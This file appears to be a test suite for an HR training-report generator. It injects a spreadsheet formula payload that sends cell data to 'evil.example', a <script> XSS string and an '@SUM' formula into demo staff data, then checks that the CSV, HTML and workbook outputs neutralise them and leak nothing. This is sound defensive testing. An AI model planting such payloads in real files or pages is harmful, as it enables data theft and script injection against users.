import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import Papa from 'papaparse';
import { beforeAll, describe, expect, it } from 'vitest';
import { completionCsv, interactionsText, peopleCsv, settingsYaml } from '../../hr/demo/exports.ts';
import { years } from '../../hr/demo/generator.ts';
import { newFolder, type Run, run, write } from './folder.ts';
import { testModule } from './module.ts';

const y = years(120, 3, testModule);
const attack = '=HYPERLINK("http://evil.example/?"&A1,"x")';
const script = '<script>alert(1)</script>';
const people = peopleCsv(y)
  .replace('"Aisha ', `"${attack.replaceAll('"', '""')} `)
  .replaceAll('"Estates"', `"${script}"`)
  .replaceAll('"Library and Cultural Services"', '"@SUM(A1)"');
const paths = write({
  'completion.csv': completionCsv(y),
  'people.csv': people,
  'hr.yaml': settingsYaml(y),
  'interactions.txt': interactionsText(y, 1),
});
const job = {
  files: [paths['completion.csv'] ?? '', paths['interactions.txt'] ?? ''],
  people: paths['people.csv'] ?? null,
  config: paths['hr.yaml'] ?? null,
};
let r: Run;
beforeAll(async () => {
  r = await run({ ...job, files: [...job.files, ...job.files.slice(1)] });
});

const files = () => readdirSync(r.out);

describe('what is written is safe to open and to send', () => {
  it('lets no cell of a CSV begin a formula', () => {
    for (const name of files().filter((f) => f.endsWith('.csv')))
      for (const cell of r
        .file(name)
        .slice(1)
        .matchAll(/"((?:[^"]|"")*)"/g))
        if (!/^[-+]?[\d.]+$/.test(cell[1] ?? '')) expect(cell[1], name).not.toMatch(/^\s*[=+@\-\t\r]/);
    expect(r.file('status.csv')).toContain(`"'=HYPERLINK(`);
    expect(r.codes).toContain('check formula');
  });

  it('shows names and departments as text, never as markup', () => {
    expect(r.page).not.toContain('<script');
    expect(r.page).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
  });

  it('needs no script and asks no other host for anything', () => {
    expect(r.page).toContain("default-src 'none'");
    expect(r.page).not.toMatch(/<(script|iframe|object|embed|link|img|form)\b/);
    expect(
      [...r.page.matchAll(/\b(?:src|href|action)="([^"]*)"/g)].map((m) => m[1]).filter((u) => !u?.startsWith('#')),
    ).toEqual([]);
    expect(r.page.match(/url\((?!data:)/g)).toBeNull();
    expect(r.page.replaceAll('http://www.w3.org/', '')).not.toMatch(/https?:\/\//);
  });

  it('names no person on the page', () => {
    for (const s of y.staff) {
      expect(r.page).not.toContain(s.email);
      expect(r.page).not.toContain(`>${s.id}<`);
    }
  });

  it.skipIf(process.platform === 'win32')('lets only the owner read files about people', () => {
    const personal = files().filter(
      (f) => !['report.html', 'departments.csv', 'items.csv', 'clauses.csv', 'sections.csv'].includes(f),
    );
    expect(personal.sort()).toEqual([
      'data-quality.csv',
      'declarations.csv',
      'due.csv',
      'evidence.csv',
      'overdue.csv',
      'people.xlsx',
      'status.csv',
    ]);
    for (const f of personal) expect(statSync(join(r.out, f)).mode & 0o777, f).toBe(0o600);
    for (const f of personal.filter((p) => p.endsWith('.csv')))
      expect(r.file(f).split('\n')[0]).toContain('"Personal data: keep private"');
    expect(statSync(r.out).mode & 0o777).toBe(0o700);
  });

  it('says in words what every chart shows, and has a table behind it', () => {
    const charts = [...r.page.matchAll(/<svg\b[^>]*>/g)].map((m) => m[0]);
    expect(charts.length).toBeGreaterThan(6);
    for (const c of charts) expect(c).toMatch(/aria-label="[^"]{20,}"/);
    expect(r.page.match(/<table>/g)?.length).toBeGreaterThan(8);
  });
});

it('the workbook says in each sheet what the CSV file of that name says, every cell as text', async () => {
  const { readSheet } = await import('../../hr/node_modules/read-excel-file/node/index.js');
  const lists = files().filter(
    (f) => f.endsWith('.csv') && !['departments.csv', 'items.csv', 'clauses.csv', 'sections.csv'].includes(f),
  );
  expect(lists.length).toBeGreaterThan(5);
  for (const name of lists) {
    // Only a CSV needs the apostrophe; there an empty cell is an empty text.
    const said = Papa.parse<string[]>(r.file(name).slice(1).trimEnd()).data.map((row) =>
      row.map((c) => c.replace(/^'(?=[=+@-])/, '') || null),
    );
    expect(await readSheet(join(r.out, 'people.xlsx'), name.slice(0, -4)), name).toEqual(said);
  }
});

describe('the same input gives the same bytes', () => {
  it('in every file, in any time zone', async () => {
    const zone = process.env['TZ'];
    process.env['TZ'] = 'Pacific/Auckland';
    const again = await run({
      ...job,
      files: [...job.files, ...job.files.slice(1)],
      out: join(newFolder(), 'again'),
    }).finally(() => {
      if (zone === undefined) delete process.env['TZ'];
      else process.env['TZ'] = zone;
    });
    for (const f of files())
      expect(readFileSync(join(again.out, f)).equals(readFileSync(join(r.out, f))), f).toBe(true);
  });
});
